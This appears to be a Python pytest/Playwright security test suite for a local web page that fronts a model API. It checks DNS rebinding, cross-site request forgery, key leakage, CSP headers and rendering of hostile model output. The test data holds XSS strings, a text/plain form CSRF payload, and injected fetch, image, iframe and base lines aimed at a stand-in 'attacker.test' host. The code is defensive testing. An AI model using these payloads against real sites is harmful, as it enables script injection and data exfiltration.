"""The traps of a page on a loopback port, in a real browser, or on a socket where no browser can."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from playwright.async_api import Browser, Error, Page, expect
from tests.http_server.doors import Door, door, responses
from tests.http_server.raw import get, post
from tests.page.browsing import tab, violations

from codexapi_engine.simulator import Simulator

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(120)]

KEY = "sk-of-this-server"
HTML = "Accept: text/html"
POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; "
    "img-src 'self' data: blob:; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
)
DATA = ["/status.json", "/page/reference.json"]
HOSTILE = (
    "<img src=x onerror='window.pwned=1'><script>window.pwned=1</script> [a](javascript:alert(1))"
)


def address(server: Door, path: str = "/") -> str:
    return f"http://127.0.0.1:{server.port}{path}"


@asynccontextmanager
async def attacker(body: str) -> AsyncIterator[str]:
    """A web page of another site, and its address."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        page = f"<!doctype html><title>attacker</title>{body}".encode()
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}\r\n"
        writer.write(f"{head}Connection: close\r\n\r\n".encode() + page)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"http://attacker.test:{server.sockets[0].getsockname()[1]}/"


def spent(backend: Simulator) -> list[str]:
    """The requests that count against a plan."""
    return [one.path for one in backend.requests if one.method == "POST"]


# Names and sites


@pytest.mark.parametrize("path", ["/", "/page/app.js", "/page/style.css", *DATA])
async def test_a_name_that_was_rebound_to_this_machine_gets_nothing(
    browser: Browser, path: str
) -> None:
    async with door(Simulator()) as server, tab(browser) as page:
        reply = await page.goto(f"http://rebound.test:{server.port}{path}")
        assert reply is not None
        assert reply.status == 421
        assert "host_not_allowed" in await page.content()


async def test_a_page_of_another_site_spends_nothing_and_reads_nothing(browser: Browser) -> None:
    backend = Simulator()
    body = json.dumps(responses("hi"))
    async with door(backend) as server, attacker("") as other, tab(browser, other) as page:
        script = """async ([base, body, data]) => {
          const tried = [];
          for (const [path, type] of [["/v1/responses", "text/plain"], ["/status/limits", "text/plain"],
              ["/v1/responses", "application/json"], ["/status/limits", "application/json"]]) {
            for (const mode of ["no-cors", "cors"]) {
              const options = {method: "POST", mode, headers: {"content-type": type}, body};
              tried.push(await fetch(base + path, options).then(r => r.type, e => "refused"));
            }
          }
          for (const path of data) tried.push(await fetch(base + path).then(r => r.text(), e => "refused"));
          return tried;
        }"""
        tried = await page.evaluate(script, [address(server, ""), body, DATA])
        assert set(tried) <= {"opaque", "refused"}
        form = """([base]) => { document.body.innerHTML = `<form method="post" enctype="text/plain"
          action="${base}/v1/responses"><input name='{"model":"m","input":"hi","x":"' value='"}'></form>`;
          document.forms[0].submit(); }"""
        async with page.expect_navigation():
            await page.evaluate(form, [address(server, "")])
        assert "origin_not_allowed" in await page.content()
        assert spent(backend) == []


async def test_a_link_of_another_site_opens_the_page_and_a_frame_does_not(
    browser: Browser,
) -> None:
    backend = Simulator()
    async with door(backend) as server:
        body = f"<a href='{address(server)}'>look</a><iframe src='{address(server)}'></iframe>"
        async with attacker(body) as other, tab(browser, other) as page:
            assert await page.frames[1].locator("#state").count() == 0
            await page.get_by_role("link", name="look").click()
            await expect(page.locator("#state")).to_have_text("Ready")
            assert await page.evaluate("window.opener") is None
            assert spent(backend) == []


@pytest.mark.parametrize(
    ("path", "headers", "status"),
    [
        ("/", ("Sec-Fetch-Dest: document", "Sec-Fetch-Mode: navigate"), 200),
        ("/", ("Sec-Fetch-Dest: iframe", "Sec-Fetch-Mode: navigate"), 403),
        ("/", ("Sec-Fetch-Dest: empty", "Sec-Fetch-Mode: no-cors"), 403),
        ("/page/app.js", ("Sec-Fetch-Dest: script", "Sec-Fetch-Mode: no-cors"), 403),
        ("/status.json", ("Sec-Fetch-Dest: document", "Sec-Fetch-Mode: navigate"), 403),
        ("/v1/models", ("Sec-Fetch-Dest: document", "Sec-Fetch-Mode: navigate"), 403),
    ],
)
async def test_of_another_site_only_a_link_to_the_page_is_let_in(
    path: str, headers: tuple[str, ...], status: int
) -> None:
    async with door(Simulator()) as server:
        reply = await server.reply(get(path, HTML, "Sec-Fetch-Site: cross-site", *headers))
        assert reply.status == status


# Keys


async def test_the_key_is_asked_for_once_and_stands_in_no_address_and_no_cookie(
    browser: Browser,
) -> None:
    async with door(Simulator(), api_key=KEY) as server, tab(browser) as page:
        addresses: list[str] = []
        page.on("request", lambda request: addresses.append(request.url))
        await page.goto(address(server))
        await expect(page.locator("#state")).to_have_text("This server wants its key")
        await expect(page.locator("#limits")).to_be_hidden()
        assert await violations(page) == []
        await page.get_by_label("Key of this server").fill("wrong")
        await page.get_by_role("button", name="Unlock").click()
        await expect(page.locator("#state")).to_have_text("That is not the key")
        await page.get_by_label("Key of this server").fill(KEY)
        await page.keyboard.press("Enter")
        await expect(page.locator("#state")).to_have_text("Ready")
        await page.reload()
        await expect(page.locator("#state")).to_have_text("Ready")
        assert not [one for one in addresses if KEY in one]
        assert await page.context.cookies() == []
        assert KEY not in await page.content()
        assert await page.evaluate("Object.keys(localStorage).length") == 0


@pytest.mark.parametrize("path", [*DATA, "/v1/models"])
async def test_with_a_key_other_users_of_the_machine_get_no_data(path: str) -> None:
    async with door(Simulator(), api_key=KEY) as server:
        for target in (path, f"{path}?key={KEY}", f"{path}?api_key={KEY}"):
            (await server.reply(get(target))).refused(401, "invalid_api_key")
        assert (await server.reply(get(path, f"Authorization: Bearer {KEY}"))).status == 200
        home = await server.reply(get("/", HTML))
        assert home.status == 200
        assert b"wants its key" in home.body
        for word in (b"plus", b"Ready", KEY.encode()):
            assert word not in home.body
        (await server.reply(post("/status/limits", {}))).refused(401, "invalid_api_key")
        (await server.reply(get("/"))).refused(401, "invalid_api_key")


# What the model says


async def test_hostile_output_is_text(browser: Browser) -> None:
    async with door(Simulator()) as server, tab(browser, address(server)) as page:
        agent = "User-Agent: <script>window.pwned=1</script>"
        await server.reply(post("/v1/responses", responses("hi"), agent))
        await page.get_by_label("Prompt").fill(f"[[say {HOSTILE}]]")
        await page.get_by_role("button", name="Send").click()
        await expect(page.locator("#answer")).to_have_text(HOSTILE)
        assert await page.locator("#answer *").count() == 0
        await expect(page.locator("#recent tbody tr")).to_have_count(2)
        assert await page.locator("#recent img, #recent script").count() == 0
        assert await page.evaluate("window.pwned") is None


# Headers


async def test_every_answer_of_the_page_carries_its_guards() -> None:
    async with door(Simulator()) as server:
        for path in ("/", "/page/app.js", "/page/style.css", *DATA):
            headers = (await server.reply(get(path, HTML))).headers
            assert headers["x-content-type-options"] == "nosniff", path
            assert headers["cross-origin-resource-policy"] == "same-origin", path
            assert "set-cookie" not in headers
            assert headers["content-security-policy"] == POLICY, path
            assert headers["referrer-policy"] == "no-referrer", path
            assert headers["cross-origin-opener-policy"] == "same-origin", path
            if path in ("/", *DATA):
                assert headers["cache-control"] == "no-store", path


@pytest.mark.parametrize(
    "injection",
    [
        "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.head.append(s)",
        "const i = document.createElement('img'); i.setAttribute('onerror', 'window.pwned = 1'); i.src = 'data:,'; document.body.append(i)",
        "const s = document.createElement('style'); s.textContent = 'body{display:none}'; document.head.append(s)",
        "const i = new Image(); i.src = 'http://attacker.test:1/leak'",
        "fetch('http://attacker.test:1/leak').catch(() => 0)",
        "const f = document.createElement('iframe'); f.src = 'http://attacker.test:1/'; document.body.append(f)",
        "const b = document.createElement('base'); b.href = 'http://attacker.test:1/'; document.head.append(b)",
    ],
    ids=["script", "handler", "style", "image", "fetch", "frame", "base"],
)
async def test_what_is_injected_does_nothing(browser: Browser, injection: str) -> None:
    async with door(Simulator()) as server, tab(browser, address(server)) as page:
        await expect(page.locator("#state")).to_have_text("Ready")
        watched = f"""() => new Promise(resolve => {{
          document.addEventListener("securitypolicyviolation", e => resolve(e.effectiveDirective));
          {injection};
        }})"""
        assert await page.evaluate(watched)
        assert await page.evaluate("window.pwned") is None


# Where there is a page


@pytest.mark.parametrize(
    ("options", "is_there"),
    [
        ({}, True),
        ({"page": False}, False),
        ({"host": "0.0.0.0", "api_key": KEY}, False),
        ({"host": "0.0.0.0", "api_key": KEY, "page": True}, True),
    ],
    ids=["on loopback", "--no-page", "beyond loopback", "beyond loopback with --page"],
)
async def test_there_is_a_page_on_loopback_or_where_it_is_requested(
    options: dict[str, Any], is_there: bool
) -> None:
    async with door(Simulator(), **options) as server:
        bearer = f"Authorization: Bearer {KEY}"
        for path in ("/", "/page/app.js", "/page/style.css", *DATA):
            reply = await server.reply(get(path, HTML, bearer))
            assert reply.status == (200 if is_there else 404), path


async def test_a_page_that_cors_allows_reads_no_data_of_the_page(browser: Browser) -> None:
    async with attacker("") as other:
        async with door(Simulator(), cors=(other.rstrip("/"),)) as server:
            async with tab(browser, other) as page:
                assert await fetched(page, address(server, "/v1/models")) == 200
                for path in ("/", *DATA):
                    assert await fetched(page, address(server, path)) in (403, "refused"), path


async def fetched(page: Page, url: str) -> Any:
    script = (
        "url => fetch(url, {headers: {accept: 'text/html'}}).then(r => r.status, () => 'refused')"
    )
    try:
        return await page.evaluate(script, url)
    except Error as error:
        return re.sub(r"\s+", " ", str(error))
